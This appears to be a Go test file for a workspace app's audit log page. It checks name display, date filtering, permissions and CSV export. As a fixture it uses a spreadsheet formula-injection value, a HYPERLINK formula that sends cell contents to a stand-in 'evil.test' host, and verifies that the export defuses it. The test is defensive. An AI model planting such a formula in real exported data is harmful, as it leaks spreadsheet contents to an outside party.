package pages_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse/gatehouse/internal/testenv"
)

// TestAuditReadable (issue 30 item 7): the audit page names actors and
// targets as they are now (a deleted one as deleted, never a bare id),
// filters by days, and exports the filtered view as CSV whose cells a
// spreadsheet cannot run as formulas; members without the settings
// permission get neither.
func TestAuditReadable(t *testing.T) {
	testenv.Run(t, func(t *testing.T, env *testenv.Env) {
		owner, member := env.Register(t), env.Register(t)
		org := env.TeamOrg(t, "Ledger", [2]string{owner.UserID, "owner"}, [2]string{member.UserID, "member"})
		base := "/workspaces/" + org + "/audit"
		ob, mb := signedIn(t, env, owner), signedIn(t, env, member)

		// A team whose name a spreadsheet would run, and a team deleted since.
		evil := `=HYPERLINK("http://evil.test/?"&A1,"click")`
		env.Call(t, "POST", "/v1/orgs/"+org+"/teams", owner.Access, map[string]string{"name": evil}).Want(t, 200)
		gone := env.Call(t, "POST", "/v1/orgs/"+org+"/teams", owner.Access, map[string]string{"name": "Night shift"}).Want(t, 200).Str("team.id")
		env.Call(t, "DELETE", "/v1/orgs/"+org+"/teams/"+gone, owner.Access, nil).Want(t, 200)
		key := env.Call(t, "POST", "/v1/orgs/"+org+"/api-keys", owner.Access, map[string]any{"name": "Billing sync", "role": "member"}).Want(t, 200).Str("api_key.id")
		// An actor whose account is gone, and entries on two days.
		ghost := "00000000-0000-4000-8000-0000000000aa"
		jan, mar := time.Date(2026, 1, 10, 12, 0, 0, 0, time.UTC), time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)
		env.Exec(t, `INSERT INTO audit_log (id, org_id, tool, action, actor_id, target_type, target_id, meta, at) VALUES ($1, $2, 'identity', 'identity.member.removed', $3, 'user', $3, '{"role":"member"}', $4)`,
			"00000000-0000-4000-8000-0000000000a1", org, ghost, jan.UnixMicro())
		env.Exec(t, `INSERT INTO audit_log (id, org_id, tool, action, actor_id, target_type, target_id, meta, at) VALUES ($1, $2, 'identity', 'identity.tool.enabled', 'system', 'tool', 'tasks', '{}', $3)`,
			"00000000-0000-4000-8000-0000000000a2", org, mar.UnixMicro())

		// An entry naming another workspace's team: its name stays there.
		other := env.Register(t)
		elsewhere := env.TeamOrg(t, "Elsewhere", [2]string{other.UserID, "owner"})
		secretTeam := env.Call(t, "POST", "/v1/orgs/"+elsewhere+"/teams", other.Access, map[string]string{"name": "Secret merger crew"}).Want(t, 200).Str("team.id")
		env.Exec(t, `INSERT INTO audit_log (id, org_id, tool, action, actor_id, target_type, target_id, meta, at) VALUES ($1, $2, 'identity', 'identity.team.updated', $3, 'team', $4, '{}', $5)`,
			"00000000-0000-4000-8000-0000000000a3", org, owner.UserID, secretTeam, jan.AddDate(-1, 0, 0).UnixMicro())

		res := ob.Get(t, base)
		if strings.Contains(res.Body, "Secret merger crew") {
			t.Errorf("the audit page names another workspace's team")
		}
		wantPage(t, "stranger's csv", signedIn(t, env, other).Get(t, base+".csv"), 404)
		wantPage(t, "audit", res, 200, `"item-title">Team created<`, "team “"+evil[:10], `"item-title">Team deleted<`,
			"deleted team “Night shift”", `"item-title">API key created<`, "key “Billing sync”", "by Deleted person", "deleted person",
			"by An operator (command line)", `tool “tasks”`, "by "+owner.Name)
		for _, id := range []string{ghost, gone, key, owner.UserID} {
			if strings.Contains(res.Body, id) {
				t.Errorf("the audit page shows the bare id %s", id)
			}
		}

		// The days filter: January only, then March only; a bad day and a
		// range that ends before it starts are explained next to their fields.
		res = ob.Get(t, base+"?from=2026-01-01&to=2026-01-31")
		wantPage(t, "january", res, 200, `"item-title">Member removed<`, `value="2026-01-01"`)
		if strings.Contains(res.Body, `"item-title">Tool turned on<`) || strings.Contains(res.Body, `"item-title">Team created<`) {
			t.Fatalf("the range lets later entries through")
		}
		res = ob.Get(t, base+"?from=2026-03-10&to=2026-03-10")
		wantPage(t, "one day", res, 200, `"item-title">Tool turned on<`)
		if strings.Contains(res.Body, `"item-title">Member removed<`) {
			t.Fatalf("the range lets earlier entries through")
		}
		wantPage(t, "bad day", ob.Get(t, base+"?from=yesterday"), 400, `id="from-error"`)
		wantPage(t, "backwards", ob.Get(t, base+"?from=2026-03-01&to=2026-02-01"), 400, `id="to-error"`)
		wantPage(t, "the CSV of the view", ob.Get(t, base+"?action=identity.team.created"), 200,
			`href="/workspaces/`+org+`/audit.csv?action=identity.team.created"`)

		// CSV: the same filters, a download, formulas defused (the owner's
		// name, read at export, is one).
		env.Exec(t, `UPDATE users SET name = $1 WHERE id = $2`, evil, owner.UserID)
		res = ob.Get(t, base+".csv?action=identity.team.created")
		if res.Status != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") ||
			!strings.HasPrefix(res.Header.Get("Content-Disposition"), `attachment; filename="audit-`) {
			t.Fatalf("csv: %d %q %q", res.Status, res.Header.Get("Content-Type"), res.Header.Get("Content-Disposition"))
		}
		rows, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 3 || rows[0][3] != "what" || rows[1][3] != "Team created" {
			t.Fatalf("csv of two team creations: %q", rows)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
					t.Errorf("csv cell %q starts a formula", cell)
				}
			}
		}
		if rows[1][4] != "'"+evil {
			t.Errorf("the owner's name is in the csv as %q; want it as text", rows[1][4])
		}
		res = ob.Get(t, base+".csv?from=2026-01-01&to=2026-01-31")
		if rows, _ := csv.NewReader(strings.NewReader(res.Body)).ReadAll(); len(rows) != 2 || rows[1][4] != "Deleted person" {
			t.Fatalf("csv of january: %q", rows)
		}
		wantPage(t, "csv bad day", ob.Get(t, base+".csv?to=soon"), 400, `id="to-error"`)
		wantPage(t, "member's csv", mb.Get(t, base+".csv"), 403)
		if res := env.NewBrowser(t).Get(t, base+".csv"); res.Status != 303 && res.Status != 302 {
			t.Fatalf("anonymous csv: %d; want a redirect to sign in", res.Status)
		}
	})
}
